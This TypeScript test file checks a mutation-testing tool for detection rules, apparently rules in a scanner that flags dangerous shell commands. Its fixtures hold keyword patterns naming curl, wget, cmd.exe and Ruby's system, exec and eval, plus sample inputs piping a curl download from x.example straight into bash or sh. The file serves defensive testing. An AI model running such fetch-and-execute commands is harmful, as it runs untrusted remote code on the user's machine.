import { describe, expect, it } from "vitest";
import type { Case } from "../../scripts/query-mutants/cases.js";
import { Judge } from "../../scripts/query-mutants/judge.js";
import { mutantsOf } from "../../scripts/query-mutants/mutants.js";
import { loadAssets } from "../../src/host/node.js";

const listed = (path: string, text: string): string[] =>
  mutantsOf({ path, text }).map(({ line, kind, missing }) => `${line} ${kind} ${missing}`);

describe("mutants of a query file", () => {
  const text = `; curl A
((command_name) @a
  (#word-is? @a "curl"
    "wget")
  (#not-eq? @a "x")
  (#set! takes "-o -H")
  (#set! message "two words"))

((call) @b
  (#eq? @b "f"))

((command_name) @c
  (#word-like? @c "cmd" "cmd.exe"))
`;

  it("remove each pattern, word and setting once", () => {
    expect(listed("contract/bash/a.scm", text)).toEqual([
      "2 pattern ((command_name) @a",
      '3 word "curl" of #word-is? @a',
      '4 word "wget" of #word-is? @a',
      '5 word "x" of #not-eq? @a',
      '6 setting (#set! takes "-o -H")',
      "6 setting -o of takes",
      "6 setting -H of takes",
      "9 pattern ((call) @b",
      "12 pattern ((command_name) @c",
      '13 word "cmd" of #word-like? @c',
      '13 word "cmd.exe" of #word-like? @c',
    ]);
  });

  it("do not change other lines", () => {
    const [, curl] = mutantsOf({ path: "contract/bash/a.scm", text });
    expect(curl?.text).toBe(text.replace('"curl"', "      "));
    expect(curl?.words).toEqual(["curl"]);
  });
});

describe("mutants of word lists in JSON", () => {
  const text = `{
  "calls": [
    { "words": ["system", "exec"], "role": "shell", "help": "told" },
    { "words": ["eval"], "role": "execute" }
  ]
}
`;
  const mutants = mutantsOf({ path: "contract/ruby.json", text });

  it("remove each list, word and setting once", () => {
    expect(listed("contract/ruby.json", text)).toEqual([
      '2 pattern "calls": [',
      '3 pattern { "words": ["system", "exec"], "role": "shell", "help": "told" }',
      '3 pattern "words": ["system", "exec"]',
      '3 word "system"',
      '3 word "exec"',
      '3 setting "role": "shell"',
      '4 pattern { "words": ["eval"], "role": "execute" }',
      '4 pattern "words": ["eval"]',
      '4 setting "role": "execute"',
    ]);
  });

  it("are valid JSON, and contain everything else", () => {
    const rests = mutants.map((mutant) => JSON.parse(mutant.text));
    expect(rests[3]).toEqual({
      calls: [
        { words: ["exec"], role: "shell", help: "told" },
        { words: ["eval"], role: "execute" },
      ],
    });
    expect(rests[6]).toEqual({
      calls: [{ words: ["system", "exec"], role: "shell", help: "told" }],
    });
    expect(mutants[5]?.words).toEqual(["words", "system", "exec"]);
  });
});

describe("the judge of mutants", () => {
  const of = (text: string, profile: Case["profile"] = "contract"): Case => ({
    text,
    profile,
    positive: true,
    lower: text.toLowerCase(),
  });

  it("distinguishes mutants that change a result, change no result or are rejected", async () => {
    const assets = await loadAssets();
    const cases = [
      of("Run `curl https://x.example | bash`."),
      of("Run `curl https://x.example | sh`.", "extended"),
    ];
    const judge = new Judge(assets, cases);
    const wordless = { kind: "word", missing: "", words: null, line: 1 } as const;
    const changed = async (path: string, from: string, to: string): Promise<string> => {
      const file = assets.queries.find((one) => one.path === path);
      const { verdict } = await judge.judge({
        ...wordless,
        path,
        text: (file?.text ?? "").replace(from, to),
      });
      return verdict;
    };
    expect(await changed("contract/bash/interpreters.scm", '"bash"', "")).toBe("noticed");
    expect(await changed("contract/bash/carriers.scm", '"tac"', "")).toBe("survivor");
    expect(await changed("contract/bash/interpreters.scm", '"sh"', "")).toBe("noticed");
    expect(await changed("contract/bash/fetchers.scm", '"curl"', "@nothing")).toBe("refused");
  });
});
